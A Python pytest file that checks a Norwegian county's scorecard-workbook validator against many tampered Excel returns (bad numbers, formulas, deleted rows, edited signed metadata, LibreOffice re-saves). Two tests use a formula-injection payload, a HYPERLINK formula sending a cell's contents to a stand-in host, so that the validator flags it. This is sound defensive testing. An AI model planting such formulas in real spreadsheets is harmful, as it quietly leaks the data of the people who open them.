"""The tamper zoo: one good filled workbook, one mutation each, the exact findings each time.

Every case applies one mutation to a copy of a good filled return (with openpyxl, as a careless
user's spreadsheet program would, or by editing a zip part) and asserts the exact sorted
``(code, sheet, cell)`` list of :func:`bms_excel.collect.validate_files` and whether the file is
accepted. Late-delivery findings are avoided by keeping the good file's modified time.
"""

from __future__ import annotations

import datetime as dt
import io
import os
import re
import shutil
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from conftest import ON_TIME, PERIOD, SECRET, copy_file, good_entry
from realclient import convert

from bms_excel.collect import validate_files
from bms_excel.generate import generate_workbooks
from bms_excel.layout import build_layout
from bms_excel.model import Definition
from bms_excel.records import ValueRecord
from bms_excel.signing import sign_meta

UNIT = "HEIMDAL"
SC, ACT, META = "Målekort", "Tiltak", "_meta"
# Indicator rows of HEIMDAL's Målekort in 2026-T2 (from build_layout; asserted below).
ROWS = {
    "R1.1": 9,
    "R1.2": 10,
    "R2.1": 12,
    "T1.2": 16,
    "T2.1": 18,
    "P1.1": 22,
    "P1.2": 23,
    "P1.3": 24,
    "P2.1": 26,
    "K1.1": 30,
    "O1.1": 34,
}
Finding3 = tuple[str, str | None, str | None]


def test_rows_match_the_layout(stfk: Definition) -> None:
    layout = build_layout(stfk, stfk.unit(UNIT), PERIOD)
    assert {c.code: c.row for c in layout.scorecard.indicators} == ROWS
    assert all(
        c.result_ref == f"I{c.row}" and c.comment_ref == f"L{c.row}"
        for c in layout.scorecard.indicators
    )


# -- mutations --------------------------------------------------------------------------------


def _edit(path: Path, change: Callable[[openpyxl.Workbook], None]) -> None:
    # Keep the modified time: a late delivery is not what these cases are about.
    mtime = path.stat().st_mtime
    wb = openpyxl.load_workbook(path)
    change(wb)
    wb.save(path)
    wb.close()
    os.utime(path, (mtime, mtime))


def _set(sheet: str, ref: str, value: Any, as_text: bool = False) -> Callable[[Path], None]:
    def mutate(path: Path) -> None:
        def change(wb: openpyxl.Workbook) -> None:
            cell = wb[sheet][ref]
            cell.value = value
            if as_text:  # openpyxl would otherwise write "=..." as a formula
                cell.data_type = "s"

        _edit(path, change)

    return mutate


def _meta_edit(key: str, value: str | None, resign: bool = False) -> Callable[[Path], None]:
    def mutate(path: Path) -> None:
        def change(wb: openpyxl.Workbook) -> None:
            ws = wb[META]
            fields = {str(r[0].value): r[1] for r in ws.iter_rows(max_col=2) if r[0].value}
            fields[key].value = value
            if resign:
                fields["signature"].value = sign_meta(
                    {k: str(c.value) for k, c in fields.items()}, SECRET
                )

        _edit(path, change)

    return mutate


def _insert_row(path: Path) -> None:
    _edit(path, lambda wb: wb[SC].insert_rows(7))


def _delete_row(path: Path) -> None:
    _edit(path, lambda wb: wb[SC].delete_rows(ROWS["R1.2"]))


def _unprotect(path: Path) -> None:
    def change(wb: openpyxl.Workbook) -> None:
        wb[SC].protection.sheet = False

    _edit(path, change)


def _rename(path: Path) -> None:
    def change(wb: openpyxl.Workbook) -> None:
        wb[SC].title = "Målekort (2)"

    _edit(path, change)


def _zip_replace(path: Path, part: str, old: bytes, new: bytes) -> None:
    with zipfile.ZipFile(path) as zf:
        members = {i.filename: zf.read(i) for i in zf.infolist()}
    assert old in members[part], part
    members[part] = members[part].replace(old, new)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, blob in members.items():
            zf.writestr(name, blob)
    mtime = path.stat().st_mtime
    path.write_bytes(buf.getvalue())
    os.utime(path, (mtime, mtime))


def _zip_edit_cell(ref: str, cell: bytes, sheet: str = SC) -> Callable[[Path], None]:
    """Replace cell ``ref`` of ``sheet`` in the package XML (a cached result openpyxl cannot
    write), keeping everything else byte for byte."""

    def mutate(path: Path) -> None:
        with zipfile.ZipFile(path) as zf:
            wb_xml = zf.read("xl/workbook.xml").decode()
            rels = zf.read("xl/_rels/workbook.xml.rels").decode()
        rid = re.search(rf'<sheet [^>]*name="{sheet}"[^>]*r:id="([^"]+)"', wb_xml)
        assert rid is not None, sheet
        target = re.search(rf'Id="{rid.group(1)}"[^>]*Target="/?(?:xl/)?([^"]+)"', rels)
        target = target or re.search(rf'Target="/?(?:xl/)?([^"]+)"[^>]*Id="{rid.group(1)}"', rels)
        assert target is not None, rid.group(1)
        part = "xl/" + target.group(1)
        with zipfile.ZipFile(path) as zf:
            blob = zf.read(part)
        old = re.search(rb'<c r="' + ref.encode() + rb'"(?:[^>]*/>|[^>]*>.*?</c>)', blob)
        assert old is not None, ref
        _zip_replace(path, part, old.group(0), cell)

    return mutate


def _unhide_meta(path: Path) -> None:
    _zip_replace(path, "xl/workbook.xml", b'state="veryHidden"', b"")


def _entry_change(change: Callable[[Any], None]) -> Callable[[Definition], Any]:
    def make(stfk: Definition) -> Any:
        entry = good_entry(stfk, UNIT)
        change(entry)
        return entry

    return make


@dataclass
class Case:
    """One mutation, its exact findings and whether the file is still accepted."""

    findings: list[Finding3]
    accepted: bool = True
    mutate: Callable[[Path], None] | None = None
    entry: Callable[[Definition], Any] | None = None  # fill differently instead of mutating
    values: dict[str, tuple[str, float | None]] = field(default_factory=dict)


def _moved(codes: list[str], by: int) -> list[Finding3]:
    return [("structure-changed", SC, f"A{ROWS[c] + by}") for c in codes]


CASES: dict[str, Case] = {
    "good": Case([]),
    "text-number-decimal-comma": Case(
        [("text-number", SC, "I9")],
        mutate=_set(SC, "I9", "12,5"),
        values={"R1.1": ("invalid", None)},  # «Ugyldig» in the workbook too: not used
    ),
    "text-number-percent": Case(
        [("text-number", SC, "I12")],
        mutate=_set(SC, "I12", "70 %"),
        values={"R2.1": ("invalid", None)},
    ),
    "text-number-grouped-out-of-range": Case(
        [("out-of-range", SC, "I10"), ("text-number", SC, "I10")],
        mutate=_set(SC, "I10", "1\u00a0234,5"),
        values={"R1.2": ("invalid", None)},
    ),
    "not-a-number": Case(
        [("not-a-number", SC, "I9")],
        mutate=_set(SC, "I9", "abc"),
        values={"R1.1": ("invalid", None)},
    ),
    "not-applicable": Case(
        [], mutate=_set(SC, "I9", "ikke aktuelt"), values={"R1.1": ("not-applicable", None)}
    ),
    "out-of-range": Case(
        [("out-of-range", SC, "I9")],
        mutate=_set(SC, "I9", 25),
        values={"R1.1": ("invalid", None)},
    ),
    "formula-in-input": Case(
        [("formula-in-input", SC, "I9")],
        mutate=_set(SC, "I9", "=1+1"),
        values={"R1.1": ("invalid", None)},
    ),
    # An error value reads as an empty cell (python-calamine); the workbook shows Ugyldig.
    "excel-error-div0": Case(
        [("excel-error", SC, "I9")],
        mutate=_set(SC, "I9", "#DIV/0!"),
        values={"R1.1": ("invalid", None)},
    ),
    "excel-error-na": Case(
        [("excel-error", SC, "I10")],
        mutate=_set(SC, "I10", "#N/A"),
        values={"R1.2": ("invalid", None)},
    ),
    # A formula whose cached result is an error is reported once, as the formula.
    "formula-giving-an-error": Case(
        [("formula-in-input", SC, "I9")],
        mutate=_zip_edit_cell("I9", b'<c r="I9" t="e"><f>1/0</f><v>#DIV/0!</v></c>'),
        values={"R1.1": ("invalid", None)},
    ),
    "formula-in-comment": Case(
        [("formula-in-input", SC, "L9")],
        mutate=_set(SC, "L9", '="Se "&A9'),
    ),
    "formula-in-action": Case(
        [("formula-in-input", ACT, "C5")],
        mutate=_zip_edit_cell("C5", b'<c r="C5" t="str"><f>"Kari"</f><v>Kari</v></c>', ACT),
    ),
    "formula-in-assessment": Case(
        [("formula-in-input", "Vurdering", "C5")],
        mutate=_set("Vurdering", "C5", "=1+1"),
    ),
    "blank-result": Case(
        [("missing-value", SC, "I9")],
        entry=_entry_change(lambda e: e.values.pop("R1.1")),
        values={"R1.1": ("missing", None)},
    ),
    "red-without-comment": Case(
        [("comment-required", SC, "L9")],
        mutate=_set(SC, "I9", 0.5),
        values={"R1.1": ("number", 0.5)},
    ),
    "row-inserted": Case(
        _moved(list(ROWS), 1),
        mutate=_insert_row,
    ),
    "row-deleted": Case(
        [("indicator-not-found", SC, "A10"), *_moved(list(ROWS)[2:], -1)],
        mutate=_delete_row,
        values={"R1.2": ("missing", None)},
    ),
    "locked-name-edited": Case(
        [("locked-cell-changed", SC, "B9")],
        mutate=_set(SC, "B9", "Noe helt annet"),
    ),
    "protection-removed": Case([("protection-removed", SC, None)], mutate=_unprotect),
    "meta-unhidden": Case([("meta-visible", META, None)], mutate=_unhide_meta),
    # What saving in LibreOffice does to the package, one change at a time: accepted, with
    # an info finding.
    "helper-sheets-only-hidden": Case(
        [("saved-by-other-program", None, None)],
        mutate=lambda p: _zip_replace(p, "xl/workbook.xml", b'"veryHidden"', b'"hidden"'),
    ),
    "structure-unprotected": Case(
        [("saved-by-other-program", None, None)],
        mutate=lambda p: _zip_replace(p, "xl/workbook.xml", b'lockStructure="1"', b""),
    ),
    "sheet-renamed": Case(
        [("sheet-missing", SC, None), ("unexpected-sheet", "Målekort (2)", None)],
        mutate=_rename,
    ),
    "scorecard-deleted": Case(
        [("sheet-missing", SC, None)],
        mutate=lambda p: _edit(p, lambda wb: wb.remove(wb[SC])),
        values={c: ("missing", None) for c in ROWS},
    ),
    "meta-deleted": Case(
        [("meta-sheet-missing", META, None)],
        mutate=lambda p: _edit(p, lambda wb: wb.remove(wb[META])),
    ),
    "meta-unit-changed": Case(
        [("bad-signature", META, None)], accepted=False, mutate=_meta_edit("unit", "BYASEN")
    ),
    "meta-period-changed": Case(
        [("bad-signature", META, None)], accepted=False, mutate=_meta_edit("period", "2026-T1")
    ),
    "signature-removed": Case(
        [("meta-incomplete", META, None)], accepted=False, mutate=_meta_edit("signature", None)
    ),
    "old-template": Case(
        [("old-template", META, None)],
        accepted=False,
        mutate=_meta_edit("template_version", "0", resign=True),
    ),
    "formula-injection-in-comment": Case(
        [("formula-injection", SC, "L34")],
        mutate=_set(SC, "L34", '=HYPERLINK("http://x.example/?"&A1)', as_text=True),
    ),
    "action-without-owner-and-deadline": Case(
        [("action-without-deadline", ACT, "D5"), ("action-without-owner", ACT, "C5")],
        entry=_entry_change(
            lambda e: e.actions.__setitem__(
                0, ("R1.1", "Flere læreplasser", None, None, "Planlagt")
            )
        ),
    ),
    "deadline-as-text": Case([], mutate=_set(ACT, "D5", "15.06.2026")),
    "absurd-date": Case(
        [("absurd-date", ACT, "D5")], mutate=_set(ACT, "D5", dt.datetime(2206, 6, 15))
    ),
    "impossible-text-date": Case([("bad-date", ACT, "D5")], mutate=_set(ACT, "D5", "31.02.2026")),
}


def _values(report: Any) -> dict[str, ValueRecord]:
    return {v.indicator: v for v in report.batch.values}


def _typed(stfk: Definition) -> dict[str, Any]:
    return good_entry(stfk, UNIT).values  # type: ignore[attr-defined,no-any-return]


def _triples(report: Any) -> list[Finding3]:
    return sorted((f.code, f.sheet, f.cell) for f in report.findings)


@pytest.mark.parametrize("name", list(CASES))
def test_tamper_zoo(
    name: str,
    tmp_path: Path,
    stfk: Definition,
    filled: dict[str, Path],
    fill: Callable[..., Path],
) -> None:
    case = CASES[name]
    path = tmp_path / "innkommet" / f"{PERIOD}_{UNIT}.xlsx"
    if case.entry is not None:
        path.parent.mkdir(parents=True)
        fill(UNIT, path, case.entry(stfk))
    else:
        copy_file(filled[UNIT], path)
    if case.mutate is not None:
        case.mutate(path)
    report = validate_files([path], stfk, SECRET, PERIOD)
    assert _triples(report) == sorted(case.findings)
    assert [f.state for f in report.files] == ["accepted" if case.accepted else "rejected"]
    values = _values(report)
    if not case.accepted:
        assert values == {}
        return
    # Every value the mutation did not touch is exactly what was typed.
    typed = _typed(stfk)
    assert set(values) == set(ROWS)
    for code, record in values.items():
        kind, value = case.values.get(code, ("number", float(typed[code])))
        assert (record.kind, record.value) == (kind, value), code


def test_formula_injection_comment_is_kept_verbatim(
    tmp_path: Path, stfk: Definition, filled: dict[str, Path]
) -> None:
    text = '=HYPERLINK("http://x.example/?"&A1)'
    path = copy_file(filled[UNIT], tmp_path / "a.xlsx")
    _set(SC, "L34", text, as_text=True)(path)
    report = validate_files([path], stfk, SECRET, PERIOD)
    assert _values(report)["O1.1"].comment == text


def test_a_text_longer_than_a_cell_is_flagged_and_kept_whole(
    tmp_path: Path, stfk: Definition, filled: dict[str, Path]
) -> None:
    path = copy_file(filled[UNIT], tmp_path / "a.xlsx")
    _set(SC, "L34", "MARKERXYZ")(path)
    # No Excel cell holds this: written into the file as a doctored one would be.
    with zipfile.ZipFile(path) as zf:
        (part,) = [n for n in zf.namelist() if b"MARKERXYZ" in zf.read(n)]
    _zip_replace(path, part, b"MARKERXYZ", b"x" * 40_000)
    report = validate_files([path], stfk, SECRET, PERIOD)
    assert _triples(report) == [("text-too-long", SC, "L34")]
    assert report.files[0].state == "accepted"
    assert _values(report)["O1.1"].comment == "x" * 40_000


def test_deadline_as_text_is_read_as_a_date(
    tmp_path: Path, stfk: Definition, filled: dict[str, Path]
) -> None:
    path = copy_file(filled[UNIT], tmp_path / "a.xlsx")
    _set(ACT, "D5", "15.06.2026")(path)
    report = validate_files([path], stfk, SECRET, PERIOD)
    assert [a.deadline for a in report.batch.actions] == [dt.date(2026, 6, 15)]


def test_good_return_keeps_comment_action_and_assessment(
    stfk: Definition, filled: dict[str, Path]
) -> None:
    report = validate_files([filled[UNIT]], stfk, SECRET, PERIOD)
    entry = good_entry(stfk, UNIT)
    assert {v.indicator: v.comment for v in report.batch.values if v.comment} == entry.comments  # type: ignore[attr-defined]
    assert [
        (a.indicator, a.action, a.responsible, a.deadline, a.status) for a in report.batch.actions
    ] == entry.actions  # type: ignore[attr-defined]
    assert [(a.focus_area, a.assessment, a.learned) for a in report.batch.assessments] == [
        ("R", "Vi er i rute.", "Tett dialog hjelper.")
    ]


# -- workbooks that were not made for this collection ----------------------------------------


def _generate_one(stfk: Definition, out: Path, **kw: Any) -> Path:
    definition = kw.pop("definition", stfk)
    period = kw.pop("period", PERIOD)
    secret = kw.pop("secret", SECRET)
    result = generate_workbooks(definition, period, out_dir=out, secret=secret, units=[UNIT])
    return result.files[0]


@pytest.mark.parametrize(
    ("name", "kw", "expected"),
    [
        ("another-period", {"period": "2026-T1"}, [("wrong-period", META, None)]),
        (
            "another-secret",
            {"secret": b"some-other-county-secret-0123456789"},
            [("bad-signature", META, None)],
        ),
        ("another-county", {"county": "OTHER"}, [("wrong-county", META, None)]),
    ],
)
def test_foreign_workbook_is_rejected(
    name: str, kw: dict[str, Any], expected: list[Finding3], tmp_path: Path, stfk: Definition
) -> None:
    if "county" in kw:
        county = stfk.county.model_copy(update={"code": kw.pop("county")})
        kw["definition"] = stfk.model_copy(update={"county": county})
    path = _generate_one(stfk, tmp_path / "gen", **kw)
    report = validate_files([path], stfk, SECRET, PERIOD)
    assert _triples(report) == expected
    assert [f.state for f in report.files] == ["rejected"]
    assert report.batch.values == []


# -- re-saved by LibreOffice -----------------------------------------------------------------


@pytest.fixture(scope="module")
def libreoffice_saves(
    tmp_path_factory: pytest.TempPathFactory, filled: dict[str, Path]
) -> dict[str, Path]:
    out = tmp_path_factory.mktemp("lo")
    src = Path(shutil.copy2(filled[UNIT], out / f"{PERIOD}_{UNIT}.xlsx"))
    saves = {
        "xlsx": convert([src], "xlsx:Calc MS Excel 2007 XML", out / "xlsx")[src],
        "ods": convert([src], "ods", out / "ods")[src],
        "xls": convert([src], "xls:MS Excel 97", out / "xls")[src],
    }
    for path in saves.values():  # saved before the deadline, like the original
        os.utime(path, (ON_TIME, ON_TIME))
    return saves


@pytest.mark.libreoffice
@pytest.mark.slow
@pytest.mark.parametrize(
    ("fmt", "warnings"),
    [
        ("xlsx", [("saved-by-other-program", "info")]),
        ("ods", [("saved-as-ods", "warning")]),
        ("xls", [("saved-as-xls", "warning")]),
    ],
)
def test_libreoffice_resave_is_accepted(
    fmt: str, warnings: list[tuple[str, str]], libreoffice_saves: dict[str, Path], stfk: Definition
) -> None:
    # LibreOffice turns veryHidden into hidden and drops the workbook structure protection:
    # accepted, with one info finding saying so. An .ods/.xls keeps the values but not the
    # structure facts.
    report = validate_files([libreoffice_saves[fmt]], stfk, SECRET, PERIOD)
    assert [(f.code, f.severity) for f in report.findings] == warnings
    assert [f.state for f in report.files] == ["accepted"]
    typed = _typed(stfk)
    got = {v.indicator: (v.kind, v.value) for v in report.batch.values}
    assert got == {c: ("number", float(v)) for c, v in typed.items()}
    assert [v.comment for v in report.batch.values if v.comment] == list(
        good_entry(stfk, UNIT).comments.values()  # type: ignore[attr-defined]
    )
